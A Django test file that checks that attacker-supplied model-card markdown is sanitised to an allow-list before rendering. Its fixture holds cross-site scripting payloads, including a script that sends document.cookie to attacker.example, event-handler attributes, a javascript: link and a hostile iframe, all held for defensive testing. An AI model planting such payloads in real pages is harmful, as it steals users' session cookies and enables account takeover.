"""Model cards are attacker-controlled markdown: what reaches the page is sanitised to an allow-list."""

from __future__ import annotations

import pytest
from django.test import Client

from tracker.catalog import services as catalog_services
from tracker.catalog.card_render import render_card_html

HOSTILE_CARD = """---
license: llama3.1
---
# Evil 1B

<script>fetch('https://attacker.example/?c='+document.cookie)</script>
<img src=x onerror="alert(1)">
<a href="javascript:alert(2)">click</a>
<iframe src="https://attacker.example"></iframe>
<style>body{display:none}</style>
<table><tr><td onclick="alert(3)">Params</td><td>1B</td></tr></table>

| Metric | Value |
|---|---|
| tokens | 2T |

[paper](https://arxiv.org/abs/2203.15556)
"""


def test_scripts_handlers_and_foreign_frames_are_removed():
    html = render_card_html(HOSTILE_CARD)
    lowered = html.lower()
    for needle in (
        "<script",
        "onerror",
        "onclick",
        "javascript:",
        "<iframe",
        "<style",
        "<img",
        "attacker.example",
    ):
        assert needle not in lowered, needle
    # The useful structure survives: heading, both tables, the safe link with a hardened rel.
    assert "<h1>Evil 1B</h1>" in html
    assert "<td>Params</td><td>1B</td>" in html
    assert "<td>tokens</td>" in html and "<td>2T</td>" in html
    assert 'href="https://arxiv.org/abs/2203.15556"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


@pytest.mark.django_db
def test_model_page_shows_the_sanitised_card(make_user):
    model, _ = catalog_services.model_get_or_create(name="Evil 1B", card=HOSTILE_CARD)
    client = Client()
    client.force_login(make_user("viewer"))
    page = client.get(f"/catalog/models/{model.pk}/").content.decode()
    assert "<td>Params</td><td>1B</td>" in page
    assert "onerror" not in page and "attacker.example" not in page and "<script>fetch" not in page
